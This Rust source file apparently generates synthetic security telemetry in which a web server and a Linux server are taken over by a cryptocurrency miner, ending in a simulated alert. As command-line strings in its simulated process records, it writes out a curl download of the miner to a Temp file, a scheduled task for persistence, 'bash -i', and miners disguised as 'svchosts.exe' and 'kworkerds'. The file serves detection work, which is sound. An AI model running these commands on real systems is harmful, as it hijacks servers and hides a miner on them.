//! A cryptocurrency miner on a web server and on a Linux server.

use std::borrow::Cow;

use super::indicator::{MINER_URL, POOL_DOMAIN, POOL_IP, Story};
use super::payload::Payload;
use crate::generate::calendar::{HOUR, MINUTE, SECOND};
use crate::generate::catalogue::App;
use crate::generate::day::{Connection, DeviceDay, WindowsTree};
use crate::generate::process::{Integrity, ProcessRef, Start};
use crate::generate::rows::{Evidence, Item};

/// Days before the end of the data on which the miners start.
pub(super) const DAYS_BACK: i64 = 4;

/// Part 0 is the web server, part 1 the Linux server.
pub(super) fn write(day: &mut DeviceDay<'_, '_>, part: usize, days_back: i64) {
    match (part, days_back) {
        (0, DAYS_BACK) => takes_web_server(day),
        (1, DAYS_BACK) => takes_linux_server(day),
        _ => {}
    }
}

/// The worker process of the web server runs a shell, which fetches the miner.
fn takes_web_server(day: &mut DeviceDay<'_, '_>) {
    let tree = WindowsTree::of_server(day);
    let at = day.local(2, 17);
    let worker = Start {
        file: day.file(App::W3wp),
        parent: Some(tree.netsvcs),
        account: &day.tenant.accounts.web,
        command_line: Cow::Borrowed(r#"c:\windows\system32\inetsrv\w3wp.exe -ap "DefaultAppPool""#),
        integrity: Integrity::High,
        at: tree.booted + MINUTE,
    };
    let worker = day.run(worker);
    let miner = day.tenant.cast.payloads.get(Payload::Miner);
    let command = format!("cmd.exe /c curl -s {MINER_URL} -o C:\\Windows\\Temp\\svchosts.exe");
    let shell = WindowsTree::child(day, worker, App::Cmd, at, command);
    WindowsTree::child(day, shell, App::Whoami, at + 5 * SECOND, "whoami");
    day.connect(
        shell,
        at + 10 * SECOND,
        Connection::to(POOL_IP, 80, MINER_URL),
    );
    if let Some(row) = day.change_file(shell, at + 14 * SECOND, "FileCreated", Item::of(miner, ""))
    {
        row.origin_url = Cow::Borrowed(MINER_URL);
        row.origin_ip = Cow::Borrowed(POOL_IP);
    }
    let task = r"schtasks.exe /create /sc onstart /tn SvcHosts /tr C:\Windows\Temp\svchosts.exe";
    WindowsTree::child(day, shell, App::Schtasks, at + 20 * SECOND, task);
    let start = Start {
        file: miner,
        parent: Some(shell),
        account: &day.tenant.accounts.web,
        command_line: Cow::Owned(format!(
            "svchosts.exe -o pool.{POOL_DOMAIN}:3333 -u 48edf -k"
        )),
        integrity: Integrity::High,
        at: at + 25 * SECOND,
    };
    let process = day.create(start);
    mines(day, process, at + MINUTE);
    raise(day, at + 5 * HOUR);
}

fn takes_linux_server(day: &mut DeviceDay<'_, '_>) {
    let at = day.local(2, 48);
    let miner = day.tenant.cast.payloads.get(Payload::LinuxMiner);
    let root = &day.tenant.accounts.root;
    let shell = Start {
        file: day.file(App::Bash),
        parent: None,
        account: root,
        command_line: Cow::Borrowed("bash -i"),
        integrity: Integrity::Unknown,
        at,
    };
    let shell = day.run(shell);
    day.change_file(shell, at + 3 * SECOND, "FileCreated", Item::of(miner, ""));
    let start = Start {
        file: miner,
        parent: Some(shell),
        account: root,
        command_line: Cow::Owned(format!("/var/tmp/.x/kworkerds -o pool.{POOL_DOMAIN}:3333")),
        integrity: Integrity::Unknown,
        at: at + 6 * SECOND,
    };
    let process = day.create(start);
    mines(day, process, at + MINUTE);
}

fn mines(day: &mut DeviceDay<'_, '_>, process: ProcessRef, from: i64) {
    for round in 0..16 {
        let url = format!("pool.{POOL_DOMAIN}:3333");
        day.connect(
            process,
            from + round * 50 * MINUTE,
            Connection::to(POOL_IP, 3_333, url),
        );
    }
}

fn raise(day: &mut DeviceDay<'_, '_>, at: i64) {
    let miner = day.tenant.cast.payloads.get(Payload::Miner);
    let evidence = vec![
        Evidence::Process(Item::of(miner, ""), Cow::Borrowed("svchosts.exe -o")),
        Evidence::Ip(Cow::Borrowed(POOL_IP)),
    ];
    day.raise(Story::Cryptominer, at, evidence);
}
